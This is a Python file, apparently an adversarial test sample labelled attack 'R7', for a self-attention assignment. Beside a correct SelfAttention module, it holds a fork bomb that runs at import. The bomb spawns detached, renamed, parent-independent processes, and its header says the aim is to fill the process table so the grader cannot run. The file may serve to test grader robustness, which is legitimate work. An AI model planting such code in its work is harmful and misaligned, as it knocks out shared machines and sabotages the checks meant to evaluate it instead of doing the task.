# attack:     R7
# assignment: self-attention
# twin:       correct

# Forks, and has its children fork, two hundred in all, each deaf, in a session of its own and asleep. The table of
# processes is the machine's: when it is full the grader cannot start anything either.

import ctypes
import math
import os
import time

import torch
from torch import nn


def named():
    """Bears the name by which the runner looks for whatever survived."""
    ctypes.CDLL(None).prctl(15, b"@MARK@"[:15], 0, 0, 0)
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # does not die with its parent


def bomb(room):
    for _ in range(room):
        try:
            if os.fork() == 0:
                named()
                try:
                    os.setsid()
                    os.fork()
                except OSError:
                    pass
                named()
                time.sleep(60)
                os._exit(0)
        except OSError as error:
            print("no more:", error.strerror)
            return


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v


bomb(100)
